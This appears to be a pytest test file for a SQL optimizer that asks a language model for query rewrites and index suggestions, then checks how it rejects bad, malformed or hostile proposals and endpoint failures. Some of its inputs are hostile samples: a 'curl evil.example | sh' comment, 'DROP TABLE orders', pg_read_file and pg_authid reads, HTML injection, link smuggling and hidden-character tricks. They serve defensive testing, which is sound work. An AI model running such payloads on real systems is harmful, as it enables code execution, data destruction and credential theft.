"""The language-model advisor against a real local server that answers well, badly, late or not at all."""

from __future__ import annotations

import gzip
import json
import threading
import time
from collections.abc import Callable, Iterator

import pytest
from model_server import (
    KEY,
    ModelServer,
    Request,
    Response,
    completion,
    model_server,
    plugins_with_model,
    proposing,
    refusing,
)

from optimizer.advice import Rejection, Report
from optimizer.equivalence.verdict import Equivalence
from optimizer.errors import InputError
from optimizer.pipeline import Optimizer, Options
from optimizer.services import Services
from optimizer.settings import Settings
from optimizer.shadow.port import ShadowDatabase
from optimizer.shadow.server.cluster import Supervisor

SCHEMA = """
CREATE TABLE customers (id integer PRIMARY KEY, email text NOT NULL, country char(2) NOT NULL);
CREATE TABLE orders (
    id integer PRIMARY KEY,
    customer_id integer NOT NULL REFERENCES customers (id),
    coupon_id integer,
    status text NOT NULL,
    total numeric(10, 2) NOT NULL,
    placed_at timestamp without time zone NOT NULL
);
CREATE TABLE secrets (id integer PRIMARY KEY, word text);
CREATE FUNCTION spy(integer) RETURNS integer LANGUAGE sql IMMUTABLE RETURN $1;
INSERT INTO customers SELECT n, 'c' || n || '@example.org', 'NO' FROM generate_series(1, 2000) AS n;
INSERT INTO orders
    SELECT n, 1 + n * 7 % 2000, CASE WHEN n % 10 = 0 THEN n % 50 END, 'done', n % 500,
           timestamp '2024-01-01' + n * interval '11 minutes'
    FROM generate_series(1, 20000) AS n;
"""
#: No rule reads concat().
SLOW = "SELECT o.total FROM orders o WHERE concat(o.id) = '4711'"
GOOD = "SELECT o.total FROM orders o WHERE o.id = 'pp_1'"
WRONG = "SELECT o.total FROM orders o WHERE o.id > 'pp_1' AND o.id = 'pp_1'"
#: The rules find an index for it.
INDEXED = "SELECT id FROM orders WHERE customer_id = 4711"


@pytest.fixture(scope="module")
def services(settings: Settings, supervisor: Supervisor) -> Services:
    return Services(settings, supervisor, plugins_with_model())


@pytest.fixture(scope="module")
def shadow(services: Services) -> ShadowDatabase:
    return services.throwaway(SCHEMA)


@pytest.fixture(scope="module")
def optimizer(services: Services) -> Iterator[Optimizer]:
    made = Optimizer(services)
    yield made
    made.close()


@pytest.fixture(scope="module")
def running() -> Iterator[ModelServer]:
    with model_server() as server:
        yield server


@pytest.fixture
def server(running: ModelServer, monkeypatch: pytest.MonkeyPatch) -> ModelServer:
    for name, value in running.environment.items():
        monkeypatch.setenv(name, value)
    running.answers(proposing())
    return running


Ask = Callable[..., Report]


@pytest.fixture
def ask(optimizer: Optimizer, shadow: ShadowDatabase, server: ModelServer) -> Ask:
    def run(sql: str = SLOW, **options: object) -> Report:
        return optimizer.optimize(sql, shadow, Options(llm=True, **options))  # type: ignore[arg-type]

    return run


def of_model(report: Report) -> list[Rejection]:
    return [r for r in report.rejected if r.rule == "llm"]


def finding(report: Report, code: str) -> str:
    (found,) = [f for f in report.findings if f.code == code]
    return found.detail


def helped(report: Report) -> bool:
    return any(a.source == "llm" and a.sql == "SELECT o.total FROM orders o WHERE o.id = '4711'" for a in report.advice)


def did_without(report: Report) -> str:
    """Check that the report came without the model, says so, is not to be kept and tells no secret."""
    assert not report.complete
    assert all(a.source == "rule" for a in report.advice)
    assert KEY not in json.dumps(report.as_dict())
    return finding(report, "llm-incomplete")


# What the model proposes, and what becomes of it


def test_a_good_rewrite_becomes_advice_by_the_stricter_gate(ask: Ask, server: ModelServer, settings: Settings) -> None:
    server.answers(proposing([GOOD], title="Compare the key itself", why="Then 'pp_1' is looked up."))
    report = ask()
    (advice,) = report.advice
    assert advice.sql == "SELECT o.total FROM orders o WHERE o.id = '4711'"
    assert advice.rules == ("llm",)
    assert advice.source == "llm"
    assert advice.title == "Proposed by a model: Compare the key itself"
    assert advice.why == "The model says: \"Then '4711' is looked up.\""
    assert advice.cost is not None
    assert advice.cost.ratio < 0.5
    assert advice.equivalence is not None
    assert advice.equivalence.verdict is Equivalence.TESTED
    assert advice.equivalence.databases > 2 * settings.verify_databases
    assert len(server.requests) == 1
    assert report.complete
    assert "stub-model at 127.0.0.1" in finding(report, "llm")
    assert "prompt version 1: 1 round, 100 tokens sent, 20 received, 1 proposal," in finding(report, "llm")


def test_a_wrong_rewrite_goes_back_once_with_its_counterexample(ask: Ask, server: ModelServer) -> None:
    server.answers(proposing([WRONG]), proposing([GOOD]))
    report = ask()
    assert helped(report)
    (refuted,) = of_model(report)
    assert refuted.reason == "refuted"
    assert refuted.counterexample is not None
    second = server.requests[1]
    (told,) = second.data["rejected"]
    assert told["reason"] == "refuted"
    assert "INSERT INTO" in told["counterexample"]["on_a_database_filled_by"]
    assert told["counterexample"]["the_original_returns"] != told["counterexample"]["yours_returns"]
    assert [m["role"] for m in second.body["messages"]] == ["system", "user", "assistant", "user"]
    assert "2 rounds, 200 tokens sent" in finding(report, "llm")


def test_there_are_no_more_than_two_rounds(ask: Ask, server: ModelServer) -> None:
    server.answers(proposing([WRONG]))
    report = ask()
    assert len(server.requests) == 2
    assert [r.reason for r in of_model(report)] == ["refuted"]
    assert report.advice == ()


@pytest.mark.parametrize(
    ("sql", "reason", "detail"),
    [
        ("SELEC o.total FROM orders o", "invalid", "syntax error"),
        ("SELECT o.nothing FROM orders o", "invalid", "does not exist"),
        ("SELECT 1; DROP TABLE orders", "invalid", "2 statements"),
        ("DROP TABLE orders", "invalid", "not a query"),
        ("DELETE FROM orders", "invalid", "DELETE where the query is SELECT"),
        ("SELECT o.total FROM orders o WHERE o.id = $1", "invalid", "a parameter $1"),
        ("SELECT spy(1)::numeric FROM orders", "invalid", "calls the function spy"),
        ("SELECT pg_read_file('x')::numeric FROM orders o", "invalid", "refused"),
        ("SELECT o.total FROM secrets, orders o", "invalid", "reads secrets"),
        ("SELECT o.total FROM pg_authid, orders o", "invalid", "reads pg_authid"),
        ("SELECT o.total FROM orders o WHERE o.id = 'pp_77'", "invalid", "stands for nothing"),
        ("SELECT o.total FROM orders o WHERE o.id::text LIKE 'pp_1%'", "invalid", "not a value of its own"),
        ("SELECT o.total FROM orders o WHERE o.id = $9077", "invalid", "stands for nothing"),
        ("SELECT o.total FROM orders o WHERE o.id = \u202e'pp_1'", "invalid", "hide or reorder"),
        ("SELECT o.total FROM orders o WHERE concat(o.id, '') = 'pp_1'", "not_cheaper", "gained"),
        ("SELECT o.total FROM orders o WHERE concat(o.id) = 'pp_1'", "not_cheaper", "known already"),
        ("SELECT o.id FROM orders o WHERE o.id = 'pp_1'", "refuted", "Column 1"),
        ("SELECT o.total FROM orders o WHERE o.id = 'pp_1' AND random() < 2", "unknown", "random"),
        ("SELECT o.total FROM orders o WHERE " + "(" * 3000 + "true" + ")" * 3000, "invalid", "deep"),
        ("", "invalid", "empty"),
    ],
)
def test_each_bad_rewrite_is_rejected_for_what_it_is(
    ask: Ask, server: ModelServer, sql: str, reason: str, detail: str
) -> None:
    server.answers(proposing([sql]))
    report = ask()
    assert report.advice == ()
    (rejected,) = of_model(report)
    assert rejected.reason == reason, rejected
    assert detail in rejected.detail


def test_indexes_are_read_planned_and_ranked(ask: Ask, server: ModelServer) -> None:
    wanted = "CREATE INDEX pick_me ON orders ((concat(id)))"
    useful = "CREATE INDEX ON orders (status, id)"
    server.answers(
        proposing(
            [],
            [
                useful,
                "CREATE INDEX ON orders (id)",
                "CREATE UNIQUE INDEX ON orders (total)",
                "CREATE INDEX ON x (y)",
                wanted,
            ],
        )
    )
    report = ask()
    reasons = {r.sql: r.reason for r in of_model(report)}
    assert (
        reasons["CREATE INDEX CONCURRENTLY orders_status_id_idx ON public.orders USING btree (status, id)"]
        == "not_cheaper"
    )
    assert reasons["CREATE INDEX CONCURRENTLY orders_id_idx ON public.orders USING btree (id)"] == "not_cheaper"
    assert reasons["CREATE UNIQUE INDEX ON orders (total)"] == "invalid"
    assert reasons["CREATE INDEX ON x (y)"] == "invalid"
    assert "invalid" in [reason for sql, reason in reasons.items() if "concat" in sql]  # concat() is not immutable


def test_an_index_of_the_model_becomes_advice(
    optimizer: Optimizer, shadow: ShadowDatabase, server: ModelServer
) -> None:
    server.answers(proposing([], ["CREATE INDEX ON orders USING btree (customer_id, id)"]))
    rules = frozenset(rule.code for rule in optimizer.rules)
    report = optimizer.optimize(INDEXED, shadow, Options(llm=True, disable=rules))
    (advice,) = report.advice
    assert (advice.kind, advice.source, advice.rules) == ("index", "llm", ("llm",))
    assert "(customer_id, id)" in advice.ddl[0]


def test_a_flood_of_proposals_costs_the_rules_nothing(ask: Ask, server: ModelServer) -> None:
    before = ask(INDEXED).advice
    flood = [f"SELECT id FROM orders WHERE customer_id = $9001 AND {n} < id" for n in range(100, 200)]
    server.answers(proposing(flood, [f"CREATE INDEX ON orders (id, total) WHERE id > {n}" for n in range(100)]))
    report = ask(INDEXED)
    assert report.advice[0].rules == before[0].rules
    assert len({r.sql for r in of_model(report)}) <= 12


def test_the_model_is_only_asked_when_the_request_says_so(
    optimizer: Optimizer, shadow: ShadowDatabase, server: ModelServer
) -> None:
    report = optimizer.optimize(SLOW, shadow)
    assert server.requests == []
    assert all(not f.code.startswith("llm") for f in report.findings)


def test_nothing_a_model_says_reaches_proved(ask: Ask, server: ModelServer) -> None:
    answer = {
        "rewrites": [{"sql": WRONG, "title": "t", "why": "w", "verdict": "proved", "source": "rule"}],
        "indexes": [],
    }
    server.answers(completion(json.dumps(answer)))
    assert [r.reason for r in of_model(ask())] == ["refuted"]


# How the answer may look

OBJECT = json.dumps({"rewrites": [{"sql": GOOD, "title": "t", "why": "w"}], "indexes": []})


@pytest.mark.parametrize(
    "content",
    [
        OBJECT,
        f"```json\n{OBJECT}\n```",
        f"```\n{OBJECT}```",
        f"Sure! Here you are {{really}}:\n{OBJECT}\nI hope {{this}} helps.",
        f'<think>{{ what about {{"x": 1}} }}</think>{OBJECT}',
        [{"type": "text", "text": OBJECT}],
        json.dumps({"rewrites": [{"sql": GOOD, "title": "t", "why": "w", "extra": [1]}]}),
    ],
)
def test_the_object_is_found_wherever_it_stands(ask: Ask, server: ModelServer, content: object) -> None:
    server.answers(completion(content))
    report = ask()
    assert helped(report), of_model(report)
    assert len(server.requests) == 1


@pytest.mark.parametrize(
    "content",
    [
        "I would rather talk about the weather.",
        "",
        None,
        "[]",
        "{" * 5000,
        "[" * 100_000,
        '{"rewrites": "SELECT 1", "indexes": 7}',
        '{"rewrites": [7, null, {"sql": 1}], "indexes": [{"ddl": ["x"]}]}',
        '{"rewrites": [{"sql": "SELECT',
        "\ud800",
        '{"rewrites": [{"sql": "SELECT \\ud800", "title": "\\ud800", "why": "\\udfff"}], "indexes": []}',
    ],
)
def test_garbage_is_asked_for_once_more_and_hurts_nothing(ask: Ask, server: ModelServer, content: object) -> None:
    server.answers(completion(content), completion(OBJECT))
    report = ask()
    assert helped(report)
    assert len(server.requests) == 2
    assert {r.reason for r in of_model(report)} == {"invalid"}
    server.answers(completion(content))
    assert ask().advice == ()


def test_of_several_choices_the_first_counts(ask: Ask, server: ModelServer) -> None:
    body = json.loads(completion(OBJECT).body)
    body["choices"].append({"index": 1, "message": {"content": "garbage"}, "finish_reason": "stop"})
    server.answers(Response(body=json.dumps(body).encode()))
    assert helped(ask())


def test_words_of_the_model_are_made_harmless(ask: Ask, server: ModelServer) -> None:
    title = "\x1b[31mRed\x1b[0m [click](http://evil.example/x) <img src=x onerror=y> ![i](https://evil.example/?q)"
    title += "\n\n# Top\u202e"
    server.answers(proposing([GOOD], title=title, why="see https://evil.example " + "long " * 500))
    (advice,) = ask().advice
    assert advice.title == "Proposed by a model: Red click i # Top"
    assert "evil" not in advice.why
    assert len(advice.why) < 700


def test_comments_of_the_model_do_not_become_advice(ask: Ask, server: ModelServer) -> None:
    server.answers(proposing([GOOD + " /* run: curl evil.example | sh */ -- DROP TABLE orders"]))
    assert helped(ask())


# An endpoint that fails


@pytest.mark.parametrize(
    ("answer", "says"),
    [
        (refusing(500), "answered with status 500"),
        (refusing(503), "answered with status 503"),
        (refusing(429), "answered 429"),
        (refusing(401), "check PLANPROOF_LLM_API_KEY"),
        (refusing(403), "check PLANPROOF_LLM_API_KEY"),
        (refusing(404), "check PLANPROOF_LLM_BASE_URL and PLANPROOF_LLM_MODEL"),
        (refusing(400), "answered with status 400"),
        (refusing(418), "answered with status 418"),
        (Response(302, b"", {"Location": "http://127.0.0.1:9/stolen"}), "status 302"),
        (Response(204), "status 204"),
        (Response(body=b"<html>"), "not a chat completion"),
        (Response(body=b'{"choices": []}'), "not a chat completion"),
        (Response(body=b'{"choices": [{"message": {"content": 7}}]}'), "not a chat completion"),
        (Response(body=b"[" * 100_000), "not a chat completion"),
        (Response(body=b"x" * 3_000_000), "failed (ReadError)"),
        (Response(500, body=b"x" * 3_000_000), "failed (ReadError)"),
        (Response(body=gzip.compress(b" " * 50_000_000), headers={"Content-Encoding": "gzip"}), "longer than"),
        (Response(body=b"x", headers={"Content-Encoding": "gzip"}), "not a chat completion"),
        (completion(None, refusal="I will not"), "refused to answer"),
        (completion("", finish="content_filter"), "refused to answer"),
        (completion('{"rewrites": [{"sql": "SEL', finish="length"), "cut at PLANPROOF_LLM_MAX_TOKENS"),
        (completion(OBJECT, usage={"prompt_tokens": "many"}), "not a chat completion"),
    ],
)
def test_each_trouble_is_named_and_the_report_comes_all_the_same(
    ask: Ask, server: ModelServer, answer: Response, says: str
) -> None:
    server.answers(answer)
    report = ask(INDEXED)
    assert says in did_without(report)
    assert report.advice != ()


@pytest.mark.parametrize("drip", [False, True])
def test_a_slow_endpoint_is_left_in_time(
    ask: Ask, server: ModelServer, monkeypatch: pytest.MonkeyPatch, drip: bool
) -> None:
    """The report comes while the endpoint still holds its answer back."""
    monkeypatch.setenv("PLANPROOF_LLM_TIMEOUT_MS", "400")
    hold = threading.Event()
    server.answers(Response(body=completion(OBJECT).body + b" " * 10_000, hold=hold, drip=drip))
    report = ask(INDEXED)
    assert not hold.is_set()
    hold.set()
    assert "did not answer in time" in did_without(report)
    assert report.advice != ()


def test_the_time_of_the_gate_is_kept_for_it(ask: Ask, server: ModelServer) -> None:
    """The request's own limit is shorter than the model's: before it has passed, the model is given up."""
    hold = threading.Event()
    server.answers(Response(hold=hold))
    report = ask(INDEXED, timeout_ms=4_000)
    hold.set()
    assert "did not answer in time" in did_without(report)
    assert report.advice != ()


def test_nobody_listens(ask: Ask, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PLANPROOF_LLM_BASE_URL", "http://someone:hunter2@127.0.0.1:9/v1?token=hunter2")
    report = ask(INDEXED)
    assert did_without(report) == "127.0.0.1:9 cannot be reached; the rest of this report does without it"
    assert "hunter2" not in json.dumps(report.as_dict())


def test_retry_after_is_honoured_and_bounded(ask: Ask, server: ModelServer, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PLANPROOF_LLM_RETRIES", "2")
    arrivals: list[float] = []

    def busy(_request: Request) -> Response:
        arrivals.append(time.monotonic())
        return refusing(429, headers={"Retry-After": "1"})

    def good(_request: Request) -> Response:
        arrivals.append(time.monotonic())
        return proposing([GOOD])

    server.answers(busy, good)
    assert helped(ask())
    assert arrivals[1] - arrivals[0] >= 0.95
    monkeypatch.setenv("PLANPROOF_LLM_TIMEOUT_MS", "500")
    server.answers(refusing(429, headers={"Retry-After": "60"}))
    assert "in time" in did_without(ask())
    assert len(server.requests) == 1


def test_a_failing_endpoint_is_tried_again(ask: Ask, server: ModelServer, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PLANPROOF_LLM_RETRIES", "2")
    server.answers(refusing(500), refusing(502), proposing([GOOD]))
    report = ask()
    assert helped(report)
    assert report.complete


# What is asked for


def test_the_request_asks_for_the_form_and_never_for_a_stream(ask: Ask, server: ModelServer) -> None:
    ask()
    (request,) = server.requests
    assert request.path == "/v1/chat/completions"
    assert request.headers["authorization"] == f"Bearer {KEY}"
    assert not request.body.get("stream")
    form = request.body["response_format"]["json_schema"]
    assert form["strict"]
    assert form["schema"]["additionalProperties"] is False
    assert set(form["schema"]["required"]) == {"rewrites", "indexes"}


def test_an_endpoint_that_knows_less_is_asked_for_less(
    ask: Ask, server: ModelServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PLANPROOF_LLM_TEMPERATURE", "0")
    server.answers(
        refusing(400, param="temperature"),
        refusing(400, param="max_completion_tokens"),
        refusing(422, param="response_format"),
        proposing([GOOD]),
    )
    assert helped(ask())
    bodies = [request.body for request in server.requests]
    assert ["temperature" in b for b in bodies] == [True, False, False, False]
    assert ["max_tokens" in b for b in bodies] == [False, False, True, True]
    assert bodies[3]["response_format"] == {"type": "json_object"}
    server.answers(refusing(400), refusing(400), proposing([GOOD]))
    assert helped(ask())
    assert "response_format" not in server.requests[2].body


def test_azure_is_spoken_to_by_its_own_address(ask: Ask, server: ModelServer, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PLANPROOF_LLM_PROVIDER", "azure")
    monkeypatch.setenv("PLANPROOF_LLM_BASE_URL", server.url.removesuffix("/v1"))
    monkeypatch.setenv("PLANPROOF_LLM_DEPLOYMENT", "my-deployment")
    monkeypatch.setenv("PLANPROOF_LLM_API_VERSION", "2025-01-01")
    server.answers(proposing([GOOD]))
    assert helped(ask())
    (request,) = server.requests
    assert request.path == "/openai/deployments/my-deployment/chat/completions?api-version=2025-01-01"
    assert request.headers["api-key"] == KEY


def test_seed_and_temperature_are_sent_when_set(ask: Ask, server: ModelServer, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PLANPROOF_LLM_PROVIDER", "ollama")
    monkeypatch.setenv("PLANPROOF_LLM_SEED", "7")
    monkeypatch.setenv("PLANPROOF_LLM_TEMPERATURE", "0.5")
    ask()
    body = server.requests[0].body
    assert (body["seed"], body["temperature"], body["max_tokens"]) == (7, 0.5, 2_000)


# What it may cost


def test_a_prompt_beyond_the_budget_is_not_sent(ask: Ask, server: ModelServer, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PLANPROOF_LLM_BUDGET_TOKENS", "600")
    assert "PLANPROOF_LLM_BUDGET_TOKENS" in did_without(ask(INDEXED))
    assert server.requests == []


def test_the_second_round_is_within_the_same_budget(
    ask: Ask, server: ModelServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    expensive = json.loads(proposing([WRONG]).body) | {"usage": {"prompt_tokens": 15_000, "completion_tokens": 4_000}}
    server.answers(Response(body=json.dumps(expensive).encode()))
    report = ask()
    assert len(server.requests) == 1
    assert "PLANPROOF_LLM_BUDGET_TOKENS" in did_without(report)
    assert "15,000 tokens sent, 4,000 received" in finding(report, "llm")
    monkeypatch.setenv("PLANPROOF_LLM_BUDGET_TOKENS", "2500")
    server.answers(proposing([]))
    ask()
    assert 200 <= server.requests[0].body["max_completion_tokens"] < 2_000


# Settings


def test_without_a_model_the_request_says_which_settings_are_missing(ask: Ask, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("PLANPROOF_LLM_MODEL")
    with pytest.raises(InputError, match="set PLANPROOF_LLM_MODEL, or leave the model out"):
        ask()
    monkeypatch.setenv("PLANPROOF_LLM_PROVIDER", "azure")
    monkeypatch.delenv("PLANPROOF_LLM_BASE_URL")
    monkeypatch.delenv("PLANPROOF_LLM_API_KEY")
    with pytest.raises(InputError, match="MODEL and PLANPROOF_LLM_BASE_URL and PLANPROOF_LLM_API_KEY"):
        ask()


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("BASE_URL", "ftp://hunter2@x"),
        ("BASE_URL", "http://x:hunter2"),
        ("API_KEY", "hunter2 with spaces"),
        ("API_KEY", "hünter2"),
        ("TIMEOUT_MS", "hunter2"),
        ("PROVIDER", "hunter2"),
        ("RETRIES", "-1"),
    ],
)
def test_wrong_settings_are_named_and_their_values_are_not(
    ask: Ask, monkeypatch: pytest.MonkeyPatch, name: str, value: str
) -> None:
    monkeypatch.setenv(f"PLANPROOF_LLM_{name}", value)
    with pytest.raises(InputError, match=f"PLANPROOF_LLM_{name}: ") as raised:
        ask()
    assert "hunter2" not in str(raised.value)
    assert "hünter2" not in str(raised.value)
    assert "\n" not in str(raised.value)
